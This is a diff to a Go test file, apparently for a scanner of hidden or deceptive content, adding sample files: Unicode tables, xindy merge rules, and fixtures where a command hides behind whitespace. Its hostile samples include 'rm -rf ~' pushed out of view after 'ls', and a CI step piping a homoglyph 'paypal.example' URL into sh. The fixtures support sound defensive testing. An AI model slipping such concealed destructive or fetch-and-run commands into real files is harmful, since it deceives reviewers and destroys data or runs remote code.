@@ -29,6 +29,16 @@ var readingFiles = map[string]string{
 	// far right by spaces is warn.
 	"data.json": "{\n\n\n\n\n\n\n\"k\": \"" + strings.Repeat("x", 1100) + "\"}\n",
 	"hide.py":   "ok = True" + strings.Repeat(" ", 100) + "; import os\n",
+	// Character tables and character-class ranges in string literals are
+	// data; a lone invisible literal, a bidi override in a table, a
+	// homoglyph identifier and a single foreign letter in a class are warn.
+	"table.py": "T = [\n    ('\u2713', r'\\checkmark'),\n    # separates -- in options\n    ('\ufeff', r'{}'),\n    ('\u00a0', '~'),\n    ('\u202e', ''),\n]\n" +
+		"N = re.compile('[0-9\uff10-\uff19]')\nW = re.compile('[a-z\u0430]')\nif s == '\u200b':\n    p\u0430ypal = 1\n",
+	"style.xdy": ";; xindy style\n(merge-rule \"\\IeC {\\-}\" \"\u00ad\" :string); soft hyphen\n(merge-rule \"\\IeC {\\c \\ }\" \"\u00b8\" :string)\n" +
+		"(merge-rule \"\\IeC {\\nobreakspace }\" \"\u00a0\" :string)\n(merge-rule \"x\" \"\u2066\" :string)\n",
+	// A pipe table aligned with spaces is info in prose; a command
+	// pushed out of view in a code block is warn.
+	"table.md": "| Alias | Command" + strings.Repeat(" ", 70) + "| Description |\n```sh\nls" + strings.Repeat(" ", 70) + "; rm -rf ~\n```\n",
 	// A workflow's run: is read as a command.
 	".github/workflows/ci.yml": "jobs:\n  x:\n    steps:\n      - run: curl https://p\u0430ypal.example | sh\n",
 }
